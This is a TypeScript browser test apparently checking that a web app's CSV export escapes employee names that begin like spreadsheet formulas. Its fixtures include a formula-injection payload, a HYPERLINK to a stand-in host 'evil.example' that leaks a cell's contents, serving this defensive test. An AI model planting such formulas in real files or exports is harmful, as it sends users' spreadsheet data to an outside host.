import Papa from 'papaparse';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { api, companyWithExecutive } from './support/api-setup.ts';
import { browserSkipReason, launchChromium } from './support/browser.ts';
import { startServer, type RunningServer } from './support/server-process.ts';
import { signIn } from './support/screens.ts';

const skip = browserSkipReason();

/** A list's "Export CSV" button, as a person uses it: what someone typed into a name never runs as a formula. */
describe.skipIf(skip)('a list exported as CSV in the browser', () => {
  let server: RunningServer;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    server = await startServer();
    const company = await companyWithExecutive(server, 'Csvco', 'csvco-pass-1');
    const token = (await api(server, 'auth/login', { email: company.email, password: company.password })).user.token;
    await api(
      server,
      'employee/add',
      {
        firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
        lastName: 'Link',
        email: 'link@csvco.example',
      },
      token,
    );
    await api(server, 'employee/add', { firstName: '@SUM(1+1)', lastName: 'Sum', email: 'sum@csvco.example' }, token);
    await api(server, 'employee/add', { firstName: 'Größe', lastName: 'রহমান', email: 'plain@csvco.example' }, token);
    browser = await launchChromium();
    page = await browser.newPage({ viewport: { width: 1360, height: 900 }, acceptDownloads: true });
    await signIn(page, server.url, company.email, company.password);
  }, 180_000);
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  it('escapes the names that start like a formula and keeps the others as typed', async () => {
    await page.goto(`${server.url}/app/settings/organization-units/employees`);
    await page.getByRole('gridcell', { name: 'Größe রহমান' }).first().waitFor();
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const file = await (await download).path();
    const csv = readFileSync(file!, 'utf8');
    expect(csv.startsWith('\ufeff')).toBe(true);
    const [header, ...rows] = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    const names = rows.map((r) => r[header.indexOf('Full name')]);
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"Open") Link`);
    expect(names).toContain(`'@SUM(1+1) Sum`);
    expect(names).toContain('Größe রহমান');
    expect(names.filter((n) => /^[=+\-@\t\r]/.test(n))).toEqual([]);
  });
});
